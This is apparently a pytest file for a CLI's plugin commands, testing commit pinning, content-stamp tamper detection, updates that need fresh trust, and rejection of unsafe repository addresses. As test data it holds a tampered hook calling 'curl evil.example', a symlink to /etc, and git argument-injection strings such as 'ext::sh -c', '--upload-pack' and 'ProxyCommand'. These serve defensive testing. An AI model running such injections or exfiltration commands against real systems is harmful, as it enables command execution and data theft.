"""`clio plugin add`, `update`, `remove`, `list` and `show`, with real repositories."""

import os
import shutil
from pathlib import Path

import pytest

from clio.config.installed_plugins import compute_stamp, find_plugins, read_lock
from clio.skills.skills import SkillCatalog
from tests.plugins.conftest import FILES, RunClio, change_plugin, head_of, make_plugin, url_of
from tests.support.repositories import git, make, write


def add(clio: RunClio, repository: Path, *options: str) -> None:
    done = clio("plugin", "add", url_of(repository), "--trust", head_of(repository), *options)
    assert done.code == 0, done.err


def files_below(folder: Path) -> list[str]:
    return sorted(path.relative_to(folder).as_posix() for path in folder.rglob("*") if path.is_file())


def test_without_the_commit_a_run_that_cannot_ask_lists_everything_and_adds_nothing(
    clio: RunClio, repository: Path, home: Path
) -> None:
    done = clio("plugin", "add", url_of(repository))
    assert done.code == 2
    for part in ("guard.sh", "notes of the plugin", "serve", "tidy", "/shout", "critic", "dusk", "Notification"):
        assert part in done.out, part
    assert head_of(repository) in done.err
    assert read_lock(home).plugins == {}
    assert files_below(home / "plugins") == []


def test_a_plugin_is_used_from_the_named_commit_on(clio: RunClio, repository: Path, home: Path) -> None:
    trusted = head_of(repository)
    change_plugin(repository, {"commands/new.md": "New.\n"})
    done = clio("plugin", "add", url_of(repository), "--trust", trusted)
    assert done.code == 0, done.err
    locked = read_lock(home).plugins["kit"]
    assert (locked.commit, locked.version) == (trusted, "1.2.0")
    copy = home / "plugins" / "kit" / locked.folder
    assert files_below(copy) == sorted(FILES)
    assert os.access(copy / "guard.sh", os.X_OK)
    assert not (copy / "commands" / "undo.md").stat().st_mode & 0o222


def test_another_commit_than_the_named_one_is_refused(clio: RunClio, repository: Path, home: Path) -> None:
    short = head_of(repository)[:12]
    change_plugin(repository, {"commands/new.md": "New.\n"})
    done = clio("plugin", "add", url_of(repository), "--trust", short)
    assert done.code == 2
    assert short in done.err
    assert read_lock(home).plugins == {}


def test_names_in_use_are_never_replaced(clio: RunClio, repository: Path, home: Path) -> None:
    write(home, {"skills/tidy/SKILL.md": "---\nname: tidy\ndescription: Mine.\n---\nMine.\n"})
    write(home, {"agents/critic.md": "---\nname: critic\ndescription: Mine.\n---\nMine.\n"})
    write(home, {"themes/dusk.yaml": "extends: light\n"})
    write(home, {"mcp.yaml": "mcpServers:\n  store:\n    command: mine\n"})
    add(clio, repository)
    names = {(one["kind"], one["name"]) for one in clio("plugin", "show", "kit", "--json").data["items"]}
    assert names >= {
        ("command", "/shout"),
        ("command", "/kit:undo"),
        ("skill", "kit:tidy"),
        ("agent", "kit:critic"),
        ("theme", "kit-dusk"),
        ("MCP server", "kit.store"),
    }
    skills = SkillCatalog(Path.cwd(), home, os.environ).find()
    assert [(one.name, one.description) for one in skills.skills] == [("tidy", "Mine."), ("kit:tidy", "Tidy code.")]
    servers = clio("mcp", "list", "--json").out
    assert '"mine"' in servers
    assert "kit.store" in servers


def test_unsupported_parts_are_named(clio: RunClio, repository: Path) -> None:
    add(clio, repository)
    shown = clio("plugin", "show", "kit")
    assert "output styles" in shown.out
    assert "hooks at Notification" in shown.out


@pytest.mark.parametrize("kind", ["changed", "added", "removed", "link", "mode"])
def test_a_plugin_whose_files_differ_is_off_with_one_sentence(
    clio: RunClio, repository: Path, home: Path, kind: str
) -> None:
    add(clio, repository)
    copy = home / "plugins" / "kit" / read_lock(home).plugins["kit"].folder
    guard = copy / "guard.sh"
    match kind:
        case "changed":
            guard.chmod(0o700)
            guard.write_text("#!/bin/sh\ncurl evil\n", encoding="utf-8")
            guard.chmod(0o500)
        case "added":
            (copy / "commands" / "extra.md").write_text("Extra.\n", encoding="utf-8")
        case "removed":
            guard.unlink()
        case "link":
            (copy / "skills" / "more").symlink_to("/etc")
        case _:
            guard.chmod(0o400)
    assert "off" in clio("plugin", "list").out
    shown = clio("config", "show")
    assert find_plugins(home, Path.cwd()).plugins == () or kind == "x"
    assert len(find_plugins(home, Path.cwd()).problems) == 1
    assert shown.code == 0
    assert "tidy" not in clio("skills", "list").out
    assert "store" not in clio("mcp", "list").out


def test_a_restored_backup_is_compared_by_content(clio: RunClio, repository: Path, home: Path) -> None:
    add(clio, repository)
    copy = home / "plugins" / "kit" / read_lock(home).plugins["kit"].folder
    shutil.copytree(copy, home / "backup", copy_function=shutil.copy2)
    shutil.rmtree(copy)
    (home / "backup").rename(copy)
    assert compute_stamp(copy) != read_lock(home).plugins["kit"].stamp
    assert "tidy" in clio("skills", "list").out


def test_a_change_with_the_same_size_and_time_is_noticed(clio: RunClio, repository: Path, home: Path) -> None:
    add(clio, repository)
    copy = home / "plugins" / "kit" / read_lock(home).plugins["kit"].folder
    guard = copy / "guard.sh"
    before = guard.stat()
    guard.chmod(0o700)
    guard.write_text(guard.read_text(encoding="utf-8").replace("deny", "ally"), encoding="utf-8")
    guard.chmod(before.st_mode)
    os.utime(guard, ns=(before.st_atime_ns, before.st_mtime_ns))
    assert guard.stat().st_size == before.st_size
    assert "tidy" not in clio("skills", "list").out


def test_an_update_shows_the_differences_and_needs_trust_again(clio: RunClio, repository: Path, home: Path) -> None:
    add(clio, repository)
    before = read_lock(home).plugins["kit"]
    assert "up to date" in clio("plugin", "update").out
    changed = FILES["hooks/hooks.json"].replace("echo 'notes of the plugin'", "curl evil.example")
    commit = change_plugin(
        repository,
        {"hooks/hooks.json": changed, "commands/shout.md": "Whisper.\n", "guard.sh": "#!/bin/sh\nexit 0\n"},
        gone=["agents/critic.md"],
    )
    done = clio("plugin", "update", "kit")
    assert done.code == 2
    rows = [line.split() for line in done.out.splitlines()]
    assert ["new", "hook", "session_start", "curl", "evil.example"] in rows
    assert any(row[:3] == ["changed", "command", "/shout"] for row in rows)
    assert any(row[:3] == ["gone", "agent", "critic"] for row in rows)
    assert "guard.sh" in done.out
    assert "tidy" not in done.out, "unchanged"
    assert read_lock(home).plugins["kit"] == before
    assert clio("plugin", "update", "kit", "--trust", commit[:12]).code == 0
    after = read_lock(home).plugins["kit"]
    assert after.commit == commit
    kept = {after.folder, before.folder, "data"}
    assert {path.name for path in (home / "plugins" / "kit").iterdir()} == kept, (
        "a running clio uses the version before"
    )
    again = change_plugin(repository, {"commands/shout.md": "Shout again.\n"})
    assert clio("plugin", "update", "kit", "--trust", again).code == 0
    assert before.folder not in {path.name for path in (home / "plugins" / "kit").iterdir()}


def test_removing_leaves_nothing(clio: RunClio, repository: Path, home: Path) -> None:
    add(clio, repository)
    assert clio("plugin", "remove", "kit").code == 0
    assert read_lock(home).plugins == {}
    assert not (home / "plugins" / "kit").exists()
    assert clio("plugin", "remove", "kit").code == 2


def test_a_project_plugin_is_used_only_there(
    clio: RunClio, repository: Path, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add(clio, repository, "--project")
    assert "tidy" in clio("skills", "list").out
    other = tmp_path / "other"
    other.mkdir()
    monkeypatch.chdir(other)
    assert "tidy" not in clio("skills", "list").out
    assert str(tmp_path / "project") in clio("plugin", "list").out


def test_a_plugin_added_in_a_second_project_stays_in_the_first(
    clio: RunClio, repository: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    add(clio, repository, "--project")
    other = tmp_path / "other"
    other.mkdir()
    monkeypatch.chdir(other)
    asked = clio("plugin", "add", url_of(repository), "--project")
    assert asked.code == 2 and "tidy" in asked.out and "Changed files" not in asked.out, "all of it is shown again"
    add(clio, repository, "--project")
    assert "tidy" in clio("skills", "list").out
    assert len(clio("plugin", "list", "--json").data[0]["projects"]) == 2
    assert "up to date" in clio("plugin", "update").out
    monkeypatch.chdir(tmp_path / "project")
    assert "in another project" not in clio("doctor").out
    assert "tidy" in clio("skills", "list").out
    add(clio, repository)
    assert clio("plugin", "list", "--json").data[0]["projects"] == []


def test_only_its_skills_are_used_if_only_they_were_added(clio: RunClio, repository: Path) -> None:
    add(clio, repository)
    asked = clio("skill", "add", url_of(repository))
    assert asked.code == 2 and "gone" in asked.out and "Changed files" not in asked.out


def test_branches_tags_short_commits_and_folders_of_a_repository(clio: RunClio, tmp_path: Path, home: Path) -> None:
    folder = make(tmp_path / "many", {"one/commands/a.md": "A.\n", "two/commands/b.md": "B.\n"})
    first = head_of(folder)
    git(folder, "tag", "v1")
    git(folder, "checkout", "--quiet", "-b", "feature/x")
    second = change_plugin(folder, {"two/commands/c.md": "C.\n"})
    git(folder, "checkout", "--quiet", "main")
    for number, (ref, commit) in enumerate((("v1", first), ("feature/x", second), (second[:9], second), ("", first))):
        address = url_of(folder) + (f"@{ref}" if ref else "")
        name = f"two-{number}"
        done = clio("plugin", "add", address, "--path", "two", "--name", name, "--trust", commit[:12])
        assert done.code == 0, done.err
        locked = read_lock(home).plugins[name]
        assert (locked.commit, locked.ref, locked.path) == (commit, ref, "two")
    assert clio("plugin", "add", url_of(folder) + "@nothing").code == 1
    assert clio("plugin", "add", url_of(folder), "--path", "three").code == 1
    assert clio("plugin", "add", url_of(folder), "--path", "../many").code == 2


def test_a_folder_is_copied_and_pinned_by_its_content(clio: RunClio, tmp_path: Path, home: Path) -> None:
    folder = tmp_path / "local"
    write(folder, {"commands/a.md": "A.\n"})
    shown = clio("plugin", "add", str(folder), "--json")
    assert shown.code == 2
    digest = shown.data["digest"]
    assert clio("plugin", "add", str(folder), "--trust", digest[:12]).code == 0
    write(folder, {"commands/a.md": "Changed.\n"})
    assert clio("plugin", "update", "local").code == 2
    copy = home / "plugins" / "local" / read_lock(home).plugins["local"].folder
    assert (copy / "commands" / "a.md").read_text(encoding="utf-8") == "A.\n"


def test_a_repository_of_skills_brings_only_skills(clio: RunClio, tmp_path: Path, home: Path) -> None:
    folder = make_plugin(tmp_path / "kit")
    done = clio("skill", "add", url_of(folder), "--trust", head_of(folder))
    assert done.code == 0, done.err
    (plugin,) = find_plugins(home, Path.cwd()).plugins
    assert plugin.skills
    assert (plugin.hooks, plugin.servers, plugin.commands, plugin.agents, plugin.themes) == ((), (), (), (), ())
    flat = make(tmp_path / "flat", {"pdf/SKILL.md": "---\nname: pdf\ndescription: PDFs.\n---\nRead.\n"})
    assert clio("skills", "add", url_of(flat), "--trust", head_of(flat)).code == 0
    assert "pdf" in clio("skills", "list").out


@pytest.mark.parametrize(
    "address",
    [
        "ext::sh -c touch% /tmp/x",
        "git://host/x",
        "http://example.com/x.git",
        "https://user:secret@example.com/x.git",
        "--upload-pack=touch",
        "-x",
        "owner",
        "ssh://-oProxyCommand=x/y",
        "https://example.com/x.git@--upload-pack=x",
        "owner/name@../../x",
        "./missing",
    ],
)
def test_other_urls_are_a_usage_error(clio: RunClio, address: str) -> None:
    assert clio("plugin", "add", "--", address).code == 2


def test_a_project_only_names_plugins(clio: RunClio, repository: Path, home: Path) -> None:
    config = Path.cwd() / ".clio" / "config.yaml"
    write(Path.cwd(), {".clio/config.yaml": f"plugins:\n  - {url_of(repository)}\n"})
    assert clio("plugin", "add", "--project").code == 2
    assert not (home / "plugins").exists()
    assert url_of(repository) in clio("config", "trust").out
    assert url_of(repository) in clio("plugin", "list").out
    assert "tidy" not in clio("skills", "list").out
    assert clio("plugin", "add", "--project").code == 2, "it cannot be asked"
    assert read_lock(home).plugins == {}
    done = clio("plugin", "add", "--project", "--trust", head_of(repository))
    assert done.code == 0, done.err
    assert read_lock(home).plugins["kit"].project == str(Path.cwd())
    assert "This project names" not in clio("plugin", "list").out, "nothing is left to add"
    config.write_text("plugins: []\n", encoding="utf-8")
    assert clio("plugin", "add", "--project").code == 2


def test_files_of_a_plugin_are_not_removed_by_gc(clio: RunClio, tmp_path: Path, home: Path) -> None:
    folder = make(tmp_path / "kit", {"commands/a.md": "A.\n", "poetry.lock": "x\n", "a.corrupt-1": "x\n"})
    add(clio, folder)
    for path in (home / "plugins").rglob("*"):
        os.utime(path, (1, 1))
    assert clio("gc", "--yes", "--caches").code == 0
    assert find_plugins(home, Path.cwd()).plugins


def test_incognito_adds_nothing(clio: RunClio, repository: Path, home: Path) -> None:
    done = clio("plugin", "add", url_of(repository), "--trust", head_of(repository), "--incognito")
    assert done.code == 2
    assert not (home / "plugins").exists()
